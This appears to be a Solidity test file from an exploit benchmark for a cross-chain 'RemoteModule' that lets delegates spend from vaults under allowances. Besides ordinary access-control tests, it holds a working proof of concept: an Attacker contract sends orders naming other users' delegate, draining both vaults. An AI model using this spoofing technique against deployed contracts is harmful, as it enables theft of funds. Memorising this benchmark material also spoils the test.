// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./RemoteModule.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";

// assay-canary-3e84d3b2-0a1d-403b-9647-e6eaa3a9de7b

interface Vm {
    function warp(uint256 time) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

contract Usd is ERC20 {
    constructor() ERC20("Usd", "USD") {
        _mint(msg.sender, 5_000_000e6);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant RELAYERS = address(0x2E1);
    address private constant IDA = address(0x1DA);
    address private constant OLE = address(0x01E);
    uint256 private constant START = 1_779_700_000;
    string private constant BOT = "0xb07000000000000000000000000000000000b07a";

    Usd private usd;
    Gateway private gateway;
    RemoteModule private module;
    Vault private ida;
    Vault private ole;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        usd = new Usd();
        gateway = new Gateway(RELAYERS);
        module = new RemoteModule(gateway);
        ida = new Vault(IDA);
        ole = new Vault(OLE);
        usd.transfer(address(ida), 3_000_000e6);
        usd.transfer(address(ole), 1_000_000e6);
        bytes32 bot = module.delegateId("base", BOT);
        vm.startPrank(IDA);
        ida.setModule(address(module), true);
        module.setDelegate(ida, bot, true);
        module.setAllowance(ida, bot, address(usd), 2_000_000e6);
        vm.stopPrank();
        vm.startPrank(OLE);
        ole.setModule(address(module), true);
        module.setDelegate(ole, bot, true);
        module.setAllowance(ole, bot, address(usd), 1_000_000e6);
        vm.stopPrank();

        // the attacker's own message, from its own account on the other chain
        mallory = new Attacker(module, ida, ole, address(usd), bot);
        bytes32 hash = keccak256(mallory.payload());
        vm.prank(RELAYERS);
        gateway.bring("m", "base", "0xa11ce", address(module), hash);
    }

    function _order(Vault vault, uint256 amount) private view returns (RemoteModule.Order memory) {
        return RemoteModule.Order(vault, module.delegateId("base", BOT), address(usd), address(0xFAB), amount);
    }

    function _bring(bytes32 id, RemoteModule.Order memory order) private returns (bytes memory payload) {
        RemoteModule.Order[] memory orders = new RemoteModule.Order[](1);
        orders[0] = order;
        payload = abi.encode(orders);
        vm.prank(RELAYERS);
        gateway.bring(id, "base", BOT, address(module), keccak256(payload));
    }

    function test_Regular() public {
        module.execute("a", "base", BOT, _bring("a", _order(ida, 900_000e6)));
        require(usd.balanceOf(address(0xFAB)) == 900_000e6, "paid");
        vm.warp(START + 1 days);
        module.execute("b", "base", BOT, _bring("b", _order(ida, 2_000_000e6)));
        require(usd.balanceOf(address(ida)) == 100_000e6, "a new day");

        // two vaults with one message
        RemoteModule.Order[] memory orders = new RemoteModule.Order[](2);
        vm.warp(START + 2 days);
        (orders[0], orders[1]) = (_order(ida, 1e6), _order(ole, 2e6));
        bytes memory payload = abi.encode(orders);
        vm.prank(RELAYERS);
        gateway.bring("c", "base", BOT, address(module), keccak256(payload));
        module.execute("c", "base", BOT, payload);
        require(usd.balanceOf(address(0xFAB)) == 2_900_003e6, "both");
        (uint128 perDay, , uint128 used) = module.allowanceOf(ole, module.delegateId("base", BOT), address(usd));
        require(perDay == 1_000_000e6 && used == 2e6, "used");
        vm.startPrank(IDA);
        module.setPaused(ida, true);
        ida.run(address(usd), abi.encodeCall(IERC20.transfer, (IDA, 5e6)));
        vm.stopPrank();
        require(module.paused(ida) && usd.balanceOf(IDA) == 5e6, "by hand");
    }

    function test_RefusesOtherCallers() public {
        vm.expectRevert(abi.encodeWithSelector(RemoteModule.NotOwner.selector, address(this)));
        module.setDelegate(ida, 0, true);
        vm.expectRevert(abi.encodeWithSelector(RemoteModule.NotOwner.selector, address(this)));
        module.setAllowance(ida, 0, address(usd), 1);
        vm.expectRevert(abi.encodeWithSelector(RemoteModule.NotOwner.selector, address(this)));
        module.setPaused(ida, true);
        vm.expectRevert("owner only");
        ida.setModule(address(this), true);
        vm.expectRevert("module only");
        ida.run(address(usd), abi.encodeCall(IERC20.transfer, (OLE, 1)));
        vm.expectRevert("relayers only");
        gateway.bring(0, "base", BOT, address(module), 0);
    }

    function test_RefusesMessages() public {
        bytes memory payload = _bring("a", _order(ida, 1));
        vm.expectRevert(abi.encodeWithSelector(RemoteModule.NotArrived.selector, bytes32("b")));
        module.execute("b", "base", BOT, payload);
        module.execute("a", "base", BOT, payload);
        vm.expectRevert(abi.encodeWithSelector(RemoteModule.NotArrived.selector, bytes32("a")));
        module.execute("a", "base", BOT, payload);
        for (uint256 n = 0; n < 12; n += 11) {
            payload = abi.encode(new RemoteModule.Order[](n));
            vm.prank(RELAYERS);
            gateway.bring(bytes32(n), "base", BOT, address(module), keccak256(payload));
            vm.expectRevert("bad batch");
            module.execute(bytes32(n), "base", BOT, payload);
        }
    }

    function test_RefusesOrders() public {
        bytes32 bot = module.delegateId("base", BOT);
        bytes memory payload = _bring("a", _order(ida, 2_000_000e6 + 1));
        vm.expectRevert(abi.encodeWithSelector(RemoteModule.OverAllowance.selector, 2_000_000e6));
        module.execute("a", "base", BOT, payload);
        vm.prank(IDA);
        module.setPaused(ida, true);
        payload = _bring("b", _order(ida, 1));
        vm.expectRevert("paused");
        module.execute("b", "base", BOT, payload);
        vm.prank(OLE);
        module.setDelegate(ole, bot, false);
        payload = _bring("c", _order(ole, 1));
        vm.expectRevert(abi.encodeWithSelector(RemoteModule.NotDelegate.selector, bot));
        module.execute("c", "base", BOT, payload);
    }

    function test_RefusesCallsThatFail() public {
        vm.prank(OLE);
        ole.setModule(address(module), false);
        bytes memory payload = _bring("a", _order(ole, 1));
        vm.expectRevert("module only");
        module.execute("a", "base", BOT, payload);
        vm.startPrank(IDA);
        vm.expectRevert("call failed");
        ida.run(address(usd), abi.encodeCall(IERC20.transfer, (IDA, 3_000_000e6 + 1)));
        vm.stopPrank();
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(usd.balanceOf(address(mallory)) >= 3_000_000e6, "nothing gained");
    }

    function target() public view returns (address) {
        return address(module);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function token() public view returns (address) {
        return address(usd);
    }
}

/// Sends orders that name the delegate of others.
contract Attacker {
    RemoteModule private module;
    Vault private a;
    Vault private b;
    address private usd;
    bytes32 private delegate;

    constructor(RemoteModule module_, Vault a_, Vault b_, address usd_, bytes32 delegate_) {
        module = module_;
        (a, b) = (a_, b_);
        usd = usd_;
        delegate = delegate_;
    }

    function payload() public view returns (bytes memory) {
        RemoteModule.Order[] memory orders = new RemoteModule.Order[](2);
        orders[0] = RemoteModule.Order(a, delegate, usd, address(this), 2_000_000e6);
        orders[1] = RemoteModule.Order(b, delegate, usd, address(this), 1_000_000e6);
        return abi.encode(orders);
    }

    function run() external {
        module.execute("m", "base", "0xa11ce", payload());
    }
}
